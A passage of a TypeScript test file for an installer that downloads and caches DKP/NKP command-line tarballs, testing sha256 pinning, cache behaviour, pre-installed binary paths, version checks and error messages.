    const other = await buildDkpTarball({ dir: buildDir, extraFiles: { NOTICE: 'n\n' } })
    srv.serve(pathFor(), other.data)
    const shared = join(tmp, 'dkp-cache')
    await mkdir(shared)
    await writeFile(join(shared, name), good.data)
    const r = await runner(shared, { sha256: other.sha256 })
    expect(r).toMatchObject({ source: 'download', tarballSha256: other.sha256 })
    expect(lines.warning.join('\n')).toContain(
      `has sha256 ${good.sha256}, but the pinned sha256 is ${other.sha256}`,
    )
  })

  it('without a known sha256 the tarball cache is neither read nor written (nothing to verify a cached tarball against)', async () => {
    srv.serve(pathFor(), good.data)
    const shared = join(tmp, 'dkp-cache')
    await mkdir(shared)
    await writeFile(join(shared, name), good.data)
    const r = await runner(shared, { sha256: undefined })
    expect(r.source).toBe('download')
    expect(r.tarballCache).toBeUndefined()
    expect(srv.count(pathFor())).toBe(1)
    expect(lines.info.join('\n')).toContain('the dkp tarball cache is not used: no sha256 is known')
  })

  it('a tarball cache that cannot be written costs a warning, not the install', async () => {
    srv.serve(pathFor(), good.data)
    const blocked = join(tmp, 'not-a-dir')
    await writeFile(blocked, 'a file where the directory should be')
    const r = await runner(blocked)
    expect(r.source).toBe('download')
    expect(r.tarballCache).toBeUndefined()
    expect(lines.warning.join('\n')).toMatch(
      /could not keep the verified dkp tarball in .*later jobs download it again/,
    )
  })

  it('dkp-path ignores the tarball cache', async () => {
    const shared = join(tmp, 'dkp-cache')
    const p = join(tmp, 'dkp')
    await writeFile(p, dkpStandInScript(), { mode: 0o755 })
    const r = await runner(shared, { dkpPath: p, sha256: undefined })
    expect(r.source).toBe('dkp-path')
    expect(await files(shared)).toEqual([])
  })
})

describe('installDkp: dkp-path (pre-installed binary)', () => {
  async function binary(name: string, script: string, mode = 0o755): Promise<string> {
    const p = join(tmp, name)
    await writeFile(p, script)
    await chmod(p, mode)
    return p
  }

  it('uses the binary, checks its version, downloads and caches nothing', async () => {
    const p = await binary('dkp', dkpStandInScript())
    const r = await installDkp(opts({ dkpPath: p }))
    expect(r).toMatchObject({ source: 'dkp-path', binary: p, dir: tmp, checksum: 'none', version: 'v2.8.1' })
    expect(r.sha256).toBe(sha256(dkpStandInScript()))
    expect(srv.requests.filter((q) => q.path.startsWith(prefix))).toEqual([])
    await expectNothingLeft()
  })

  it('accepts a directory holding dkp, and a relative path against cwd', async () => {
    await binary('dkp', dkpStandInScript())
    expect((await installDkp(opts({ dkpPath: tmp }))).binary).toBe(join(tmp, 'dkp'))
    expect((await installDkp(opts({ dkpPath: './dkp', cwd: tmp }))).binary).toBe(join(tmp, 'dkp'))
  })

  it('a missing path is an input error naming it', async () => {
    const err = await failure(installDkp(opts({ dkpPath: join(tmp, 'nope', 'dkp') })))
    expect(err).toBeInstanceOf(InputError)
    expect(err.message).toBe(`dkp-path ${join(tmp, 'nope', 'dkp')} does not exist`)
    const empty = join(tmp, 'empty')
    await mkdir(empty)
    expect((await failure(installDkp(opts({ dkpPath: empty })))).message).toMatch(
      /is a directory without a dkp binary/,
    )
  })

  it('a non-executable file is an input error naming it and its mode', async () => {
    const p = await binary('dkp', dkpStandInScript(), 0o644)
    const err = await failure(installDkp(opts({ dkpPath: p })))
    expect(err).toBeInstanceOf(InputError)
    expect(err.message).toBe(`dkp-path ${p} is not executable (mode 0644); make it executable (chmod +x)`)
  })

  it('a binary reporting another version is refused', async () => {
    const p = await binary('dkp', dkpStandInScript({ version: 'v2.7.1' }))
    const err = await failure(installDkp(opts({ dkpPath: p })))
    expect(err).toBeInstanceOf(WorkError)
    expect(err.message).toBe(`${p} reports dkp v2.7.1, but v2.8.1 was requested; it is not used`)
  })

  it('with dkp-sha256 the binary itself is checked (match and mismatch)', async () => {
    const p = await binary('dkp', dkpStandInScript())
    const right = sha256(dkpStandInScript())
    expect((await installDkp(opts({ dkpPath: p, sha256: right }))).checksum).toBe('pinned')
    const wrong = '01'.repeat(32)
    const err = await failure(installDkp(opts({ dkpPath: p, sha256: wrong })))
    expect(err.message).toBe(
      `checksum mismatch for dkp-path ${p}: expected sha256 ${wrong} (dkp-sha256), got sha256 ${right}`,
    )
  })

  it('NKP: no official URL to default to; a mirror serving the nkp tarball installs nkp', async () => {
    const noUrl = await failure(installDkp(opts({ version: 'v2.14.1', urlTemplate: undefined })))
    expect(noUrl).toBeInstanceOf(InputError)
    expect(noUrl.message).toContain(
      'set dkp-download-url (a mirror template with {version}, {os}, {arch}) or dkp-path',
    )
    await expectNothingLeft()
    const nkp = await buildDkpTarball({ dir: buildDir, version: 'v2.14.1', binary: 'nkp' })
    srv.serve(pathFor('v2.14.1'), nkp.data)
    const res = await installDkp(opts({ version: 'v2.14.1', sha256: nkp.sha256 }))
    expect(res).toMatchObject({ version: 'v2.14.1', checksum: 'pinned', source: 'download' })
    // a DKP-shaped tarball (a `dkp` member) is not an NKP one
    const dkpShaped = await buildDkpTarball({ dir: buildDir, version: 'v2.13.1' })
    srv.serve(pathFor('v2.13.1'), dkpShaped.data)
    expect((await failure(installDkp(opts({ version: 'v2.13.1' })))).message).toMatch(/nkp/)
  })

  it('NKP-style output (`nkp: v2.12.0`) is understood', async () => {
    const p = await binary('nkp', '#!/bin/sh\nprintf "diagnose: v0.10.0\\nnkp: v2.12.0\\n"\n')
    expect((await installDkp(opts({ dkpPath: p, version: 'v2.12.0' }))).version).toBe('v2.12.0')
  })
})
